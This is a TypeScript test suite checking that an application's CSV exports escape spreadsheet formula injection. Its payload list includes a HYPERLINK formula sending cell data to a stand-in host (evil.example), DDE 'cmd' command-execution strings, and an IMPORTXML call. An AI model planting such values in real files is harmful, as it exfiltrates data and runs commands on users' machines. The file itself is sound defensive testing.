import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { emptyDesk } from '#shared/contracts/reading/quote-desk';
import { type DeskOffer, readDesk } from '#shared/money/quotes/desk';
import { auditCsv } from '../features/admin/audit-panel.tsx';
import { comparisonCsv } from '../features/catalogue/compare/compare-dialog.tsx';
import { entriesCsv, pointsCsv } from '../features/directories/directory-csv.ts';
import { strategiesCsv } from '../features/negotiation/strategies/strategies-export.ts';
import { pricingCsv } from '../features/pricing/pricing-csv.ts';
import { defaultSetup } from '../features/pricing/pricing-setup.ts';
import { evidenceCsv } from '../features/purchases/evidence/evidence-matrix.tsx';
import { deskCsv } from '../features/quotes/words.ts';
import { matrixCsv } from '../features/reports/frame/due-diligence-view.tsx';
import { riskCsv } from '../features/vendor-risk/risk-results.tsx';
import { aRiskProfile } from '../features/vendor-risk/testing/risk-profiles.ts';
import { csvOf } from '../lib/files/csv.ts';
import { aSolution } from '../testing/catalogue.ts';
import { aFullHospital, aPoint, aProvider, aService } from '../testing/directories.ts';
import { aDueDiligenceReport } from '../testing/due-diligence-reports.ts';
import { figureCsv } from '../ui/figures/chart-figure.tsx';

/** Every file that a spreadsheet may open, made of records in which each text is a formula. */

/** What spreadsheets have run, or fetched from. */
const formulas = [
  '=HYPERLINK("https://evil.example/?d="&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '="a"&IMPORTXML("https://evil.example","//a")',
  '"=1+1',
] as const;

/** Choices that a table of words is asked for: no text that anybody writes. */
const choices =
  /^(?:kind|type|state|action|status|family|goal|dimension|riskLevel|riskLevelAtBest|risk|level|criterion|key|asOf|at|unit|category|coverage|date|signed|ends|profession)$/;

/** A record with every text that somebody wrote replaced. */
const loaded = <T>(value: T, text: string, name = ''): T => {
  if (typeof value === 'string') return (choices.test(name) ? value : text) as T;
  if (Array.isArray(value)) return value.map((one) => loaded(one, text, name)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, loaded(one, text, key)])) as T;
};

const priced = {
  family: 'real',
  vendor: 'x',
  solution: 'x',
  basePricePerRoom: 1,
  implementationCost: 1,
  monthlyCost: 1,
  riskScore: 1,
  riskCoverage: 1,
  supportLevel: 'basic',
  marketPosition: 'Emerging',
  availability: 'local',
  certifications: { tga: true, fda: null, ce: false, iso: ['x'] },
  notOnRecord: ['x'],
  evidence: { basePricePerRoom: { kind: 'published', source: 'x', asOf: '2026-02', url: 'x' } },
  isSimulated: false,
} as never;
const request = { category: 'ehr', facilityType: 'hospital', roomCount: 10, region: 'NSW' } as const;
const strategy = {
  vendor: 'x',
  product: 'x',
  goal: 'price-reduction',
  currentPrice: 1,
  targetPrice: 1,
  targetRule: 'x',
  benchmarkTarget: { value: 1, formula: 'x' },
  walkAway: { value: 1, formula: 'x' },
  timeframe: 'x',
  status: 'planning',
  createdAt: '2026-01-01T00:00:00Z',
  asked: 'x',
  agreed: 'x',
  note: 'x',
} as never;
const entry = { at: '2026-01-01T00:00:00Z', who: 'x', action: 'code.created', what: 'x', id: 'x' } as const;

const stand = { coverage: 1, score: 1, place: 1, verdict: 'may-fit' as const };
const cell = {
  ...{ row: 'a', solutionId: 'a', state: 'on-record' as const, asOf: '' },
  ...{ statements: [], closedBy: null, asked: null },
};

const aDeskOffer = (text: string): DeskOffer => {
  const { offers } = readDesk(
    { ...emptyDesk, texts: [{ id: 'a', name: text, text: 'x' }] },
    { read: () => ({ buyer: [], offers: [] }), check: () => [] },
  );
  return { ...offers[0], key: 'a', name: text } as DeskOffer;
};

/** By the file that makes it; infra/quality/checks/csv-writers.test.ts holds this list against the sources. */
const exports: Record<string, (text: string) => string[]> = {
  'features/admin/audit-panel.tsx': (text) => [auditCsv([loaded(entry, text)], true)],
  'features/catalogue/compare/compare-dialog.tsx': (text) => [comparisonCsv([loaded(aSolution(), text)], text)],
  'features/directories/directory-csv.ts': (text) => [
    entriesCsv([loaded(aFullHospital('a'), text), loaded(aService('b'), text), loaded(aProvider('c'), text)]),
    pointsCsv([loaded(aPoint('a'), text)]),
  ],
  'features/negotiation/strategies/strategies-export.ts': (text) => [strategiesCsv([loaded(strategy, text)])],
  'features/pricing/pricing-csv.ts': (text) => [pricingCsv([loaded(priced, text)], { request, setup: defaultSetup })],
  'features/purchases/evidence/evidence-matrix.tsx': (text) => [
    evidenceCsv({
      ...{ reports: [], revision: 1, dataVersion: 'x' },
      products: [{ solutionId: 'a', name: text, vendor: text, state: 'shortlisted', before: stand, after: stand }],
      rows: [{ id: 'a', label: text, of: 'solution', fields: [], must: '', question: text }],
      cells: [{ ...cell, value: text, source: text }],
    }),
  ],
  'features/quotes/words.ts': (text) => [
    deskCsv(
      [aDeskOffer(text)],
      [
        {
          key: 'a',
          label: text,
          lines: new Map([['a', { id: 'a', label: text, at: [], state: 'optional', amount: text }]]),
        },
      ],
    ),
  ],
  'features/reports/frame/due-diligence-view.tsx': (text) => [matrixCsv(loaded(aDueDiligenceReport(), text))],
  'features/vendor-risk/risk-results.tsx': (text) => [riskCsv([loaded(aRiskProfile(), text)], text)],
  'ui/figures/chart-figure.tsx': (text) => [
    figureCsv(text, { name: 'x', rows: [[text], [text]], notes: [['Note', text]] }),
  ],
};

const cellsOf = (csv: string): string[] => (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !Number.isFinite(Number(cell));

describe('a table that is exported', () => {
  it.each(Object.entries(exports))('by %s holds no cell that a spreadsheet would run [fault 54]', (_file, make) => {
    for (const text of formulas) {
      for (const csv of make(text)) {
        const cells = cellsOf(csv);
        expect(cells.some((cell) => cell.includes(text.trim()))).toBe(true);
        expect([text, cells.filter(isFormula)]).toEqual([text, []]);
      }
    }
  });

  it('keeps any other text and every number as it is, whatever is in the cells [fault 54]', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(...formulas),
      fc.string().map((some) => `=${some}`),
    );
    const cell = fc.oneof(text, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const read = parse(csvOf(rows), { bom: true, relax_column_count: true }) as string[][];
        const expected = rows.map((row) =>
          row.map((one) => (typeof one === 'string' && isText(one) ? `'${one}` : one === null ? '' : String(one))),
        );
        expect(read).toEqual(expected);
      }),
    );
  });
});

const isText = (text: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(text);
